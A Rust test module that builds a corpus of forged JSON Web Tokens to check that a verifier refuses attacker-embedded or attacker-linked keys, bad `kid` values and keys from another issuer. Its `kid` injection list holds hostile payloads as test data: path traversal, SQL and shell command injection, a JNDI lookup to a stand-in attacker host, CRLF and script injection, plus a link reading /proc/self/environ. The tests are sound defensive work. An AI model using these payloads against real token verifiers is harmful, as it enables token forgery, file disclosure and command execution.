//! The key: of a forger under the name of the issuer, embedded or linked; each kind of `kid`; of
//! another issuer.

use serde_json::{Value, json};
use tests::signer::{Signer, encode};

use crate::forged::corpus::{Answer, App, Corpus, ISSUER, Signers, good, with};

pub(crate) fn add(corpus: &mut Corpus, signers: &Signers, canary: &str) {
    attacker(corpus, signers, canary);
    ids(corpus, signers);
    injections(corpus, signers);
    other_issuer(corpus, signers);
}

/// The header of `signer`'s tokens, with one member more.
fn header(signer: &Signer, name: &str, value: impl Into<Value>) -> String {
    let mut header = signer.header();
    header[name] = value.into();
    header.to_string()
}

fn attacker(corpus: &mut Corpus, signers: &Signers, canary: &str) {
    const CLASS: &str = "attacker-key";
    for (forger, real) in signers.forgers.iter().zip(signers.keys()) {
        let named = |what: &str| format!("{} {what}", forger.algorithm);
        corpus.refused(CLASS, &named("under the issuer's id"), forger.token(&good()));
        let certificate = json!([base64::Engine::encode(
            &base64::engine::general_purpose::STANDARD,
            forger.der()
        )]);
        let mut private = forger.jwk();
        private["d"] = encode([7; 32]).into();
        let brought = [
            ("jwk", forger.jwk()),
            ("jwk", private),
            ("jwk", real.jwk()),
            ("jwks", json!({"keys": [forger.jwk()]})),
            ("x5c", certificate),
            ("x5c", json!(["not a certificate"])),
            ("x5t", encode([1; 20]).into()),
            ("x5t#S256", encode([1; 32]).into()),
        ];
        let links = [
            format!("http://{canary}/jwks.json"),
            format!("https://{canary}/jwks.json"),
            format!("http://{canary}/.well-known/jwks.json#{ISSUER}"),
            format!("{ISSUER}/redirect?to=http://{canary}/jwks.json"),
            format!("http://issuer.example@{canary}/"),
            format!("data:application/json,{}", json!({"keys": [forger.jwk()]})),
            "file:///proc/self/environ".to_owned(),
        ];
        let links = links
            .into_iter()
            .flat_map(|link| [("jku", Value::from(link.clone())), ("x5u", link.into())]);
        for (name, value) in brought.into_iter().chain(links) {
            let text = value.to_string();
            corpus.refused(
                CLASS,
                &named(&text),
                forger.sign(header(forger, name, value.clone()), good().to_string()),
            );
            let mut anonymous = json!({"alg": forger.algorithm});
            anonymous[name] = value.clone();
            let token = forger.sign(anonymous.to_string(), good().to_string());
            corpus.refused(CLASS, &named("without an id"), token.clone());
            corpus.add(CLASS, &named("without an id, one key"), App::One, token, Answer::Refused);
            anonymous["kid"] = "new".into();
            corpus.refused(
                CLASS,
                &named("under a new id"),
                forger.sign(anonymous.to_string(), good().to_string()),
            );
            // Signed by the issuer, the same header is harmless: the key is the configured one.
            corpus.served(
                CLASS,
                &named("by the issuer"),
                real.sign(header(real, name, value), good().to_string()),
            );
        }
    }
}

fn ids(corpus: &mut Corpus, signers: &Signers) {
    const CLASS: &str = "kid";
    let rs = &signers.rs;
    let values = [
        json!(""),
        json!(null),
        json!(true),
        json!(7),
        json!(["rs-2026"]),
        json!({"$ne": ""}),
        json!("RS-2026"),
        json!("rs-2026 "),
        json!(" rs-2026"),
        json!("rs-2026\0"),
        json!("rs-202"),
        json!("rs-20266"),
        json!("unknown"),
        json!("k".repeat(10_000)),
        json!("k".repeat(257)),
        json!("es-2026"),
        json!("ps-2026"),
        json!("rs\u{2011}2026"),
    ];
    for value in values {
        let name: String = value.to_string().chars().take(40).collect();
        corpus.refused(CLASS, &name, rs.sign(header(rs, "kid", value), good().to_string()));
    }
    let nameless = r#"{"alg":"RS256"}"#;
    corpus.served(CLASS, "none, one key of RS256", rs.sign(nameless, good().to_string()));
    let by_another = signers.es.sign(nameless, good().to_string());
    corpus.refused(CLASS, "none, signed with a key of another algorithm", by_another);
    corpus.add(
        CLASS,
        "none, one key",
        App::One,
        signers.es.sign(r#"{"alg":"ES256"}"#, good().to_string()),
        Answer::Served,
    );
    let escaped = r#"{"alg":"RS256","\u006bid":"\u0072s-2026"}"#;
    corpus.served(CLASS, "escaped", rs.sign(escaped, good().to_string()));
}

/// Values of `kid` that a verifier once used as a path, a query, a command, a log line, or a part
/// of its response.
fn injections(corpus: &mut Corpus, signers: &Signers) {
    const CLASS: &str = "kid-injection";
    let known: [(&str, &[u8]); 20] = [
        ("/dev/null", b""),
        ("../../../../../../dev/null", b""),
        ("../../../proc/sys/kernel/randomize_va_space", b"2"),
        ("file:///proc/sys/kernel/randomize_va_space", b"2\n"),
        ("C:\\Windows\\win.ini", b"; for 16-bit app support"),
        ("x' UNION SELECT '1';--", b"1"),
        ("rs-2026' OR '1'='1", b""),
        ("rs-2026'; DROP TABLE keys; --", b""),
        ("{\"$gt\":\"\"}", b""),
        ("*)(uid=*", b""),
        ("|sleep 10", b""),
        ("$(sleep 10)", b""),
        ("`sleep 10`", b""),
        ("${jndi:ldap://forger.example/a}", b""),
        ("{{7*7}}{%raw%}", b"49"),
        ("rs-2026\r\nX-Injected: 1", b""),
        ("\u{1b}[2Jrs-2026", b""),
        ("rs-2026\", error=\"injected", b""),
        ("rs-2026\0.pem", b""),
        ("<script>alert(1)</script>", b""),
    ];
    for (id, secret) in known {
        let forger = Signer::with_secret("HS256", "unused", secret);
        let header = |algorithm: &str| json!({"alg": algorithm, "kid": id}).to_string();
        corpus.refused(CLASS, id, forger.sign(header("HS256"), good().to_string()));
        corpus.add(
            CLASS,
            id,
            App::Secret,
            forger.sign(header("HS256"), good().to_string()),
            Answer::Refused,
        );
        corpus.refused(CLASS, id, signers.rs.sign(header("RS256"), good().to_string()));
    }
}

/// S24: a key belongs to one issuer, for any claims of a token.
fn other_issuer(corpus: &mut Corpus, signers: &Signers) {
    const CLASS: &str = "other-issuer";
    let other = &signers.other;
    corpus.refused(CLASS, "its key, its name", other.token(&with("iss", "https://other.example")));
    corpus.refused(CLASS, "its key, our issuer's name", other.token(&good()));
    for key in signers.keys() {
        let header = json!({"alg": other.algorithm, "kid": key.id}).to_string();
        corpus.refused(CLASS, "its key, our issuer's id", other.sign(header, good().to_string()));
        corpus.refused(
            CLASS,
            "our issuer's key, its name",
            key.token(&with("iss", "https://other.example")),
        );
    }
}
